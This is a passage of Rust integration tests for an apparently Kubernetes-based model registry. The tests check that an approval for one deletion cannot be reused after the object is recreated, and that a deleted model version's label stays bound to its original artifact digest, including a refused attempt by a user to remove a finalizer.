    let (code, stderr) = attempt(&api, "alice", &["create", "-f", "-"], &approval);
    assert_eq!(code, 0, "{stderr}");
    let (code, stderr) = attempt(&api, "erin", &delete, "");
    assert_eq!(code, 0, "{stderr}");
    // Made again (its creation signed off), the same name is another object: the approval of
    // the first one's deletion does not remove it.
    let deployments = root().join("examples/football-frames/deployments.yaml");
    let text = std::fs::read_to_string(deployments).unwrap();
    let api_doc = text
        .split("\n---\n")
        .find(|d| d.contains("name: pitch-frames-api"))
        .unwrap()
        .to_string();
    approved_by_a_lead(&api, "ModelDeployment", "pitch-frames-api", || {
        api.kubectl_stdin(&["apply", "-f", "-"], "erin", &api_doc)
    });
    let (code, stderr) = attempt(&api, "erin", &delete, "");
    assert_ne!(code, 0, "deleted again with the first deletion's approval");
    assert!(
        stderr.contains(&format!(
            "approval remove-api by alice signs off change {change}, not this one"
        )),
        "{stderr}"
    );
}

/// Issue 21 §3 and the "relies on" list: a version label means one artifact, for good. A
/// version is named after its model and label, so two registrations of one label made at once
/// meet at the API server; a deleted version's label and artifact are recorded in its model
/// (the controller's retire finalizer holds the deletion until they are), and the label is never
/// registered again with another artifact.
#[test]
fn a_label_means_one_artifact_even_after_its_version_is_deleted() {
    let (api, controller) = guarded();
    let nine = |name: &str, digit: char| {
        format!(
            "apiVersion: slipway.dev/v1alpha1\nkind: ModelVersion\nmetadata: {{name: {name}, namespace: default}}\nspec: {{model: pitch-frame-classifier, version: \"9\", artifact: {{uri: \"s3://models/pitch-frames/9/model.onnx\", digest: \"sha256:{}\"}}}}\n",
            digit.to_string().repeat(64)
        )
    };
    refused(
        &api,
        "erin",
        &nine("pfc-nine", 'a'),
        &["name version 9 of pitch-frame-classifier `pitch-frame-classifier-9`"],
    );
    // Held from the moment it is created (the mutating webhook), so no deletion comes first.
    let run = api.kubectl_stdin(
        &["create", "-f", "-"],
        "erin",
        &nine("pitch-frame-classifier-9", 'a'),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        get(
            &api,
            &["mver", "pitch-frame-classifier-9"],
            "{.metadata.finalizers}"
        ),
        r#"["slipway.dev/retire"]"#
    );
    // Its finalizer is not hers to take off.
    let (code, stderr) = attempt(
        &api,
        "erin",
        &[
            "patch",
            "mver",
            "pitch-frame-classifier-9",
            "--type=json",
            "-p",
            r#"[{"op": "remove", "path": "/metadata/finalizers/0"}]"#,
        ],
        "",
    );
    assert!(
        code != 0 && stderr.contains("slipway.dev/retire stays until RegisteredModel pitch-frame-classifier records version 9's artifact as retired"),
        "{stderr}"
    );
    let run = api.kubectl(
        &[
            "delete",
            "mver",
            "pitch-frame-classifier-9",
            "--timeout=60s",
        ],
        "admin",
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stderr, controller.log());
    assert_eq!(
        get(
            &api,
            &["rmodel", "pitch-frame-classifier"],
            "{.status.retiredVersions[0].version} {.status.retiredVersions[0].digest}"
        ),
        format!("9 sha256:{}", "a".repeat(64))
    );
    // The label comes back only with its artifact.
    refused(
        &api,
        "erin",
        &nine("pitch-frame-classifier-9", 'b'),
        &[&format!(
            "version 9 of pitch-frame-classifier was registered with artifact sha256:{} and deleted",
            "a".repeat(64)
        )],
    );
    apply(&api, "erin", &nine("pitch-frame-classifier-9", 'a'));
    // The model's own status writes keep the record.
    std::thread::sleep(Duration::from_secs(2));
    assert!(
        get(
            &api,
            &["rmodel", "pitch-frame-classifier"],
            "{.status.retiredVersions}"
        )
        .contains(&"a".repeat(64))
    );
}
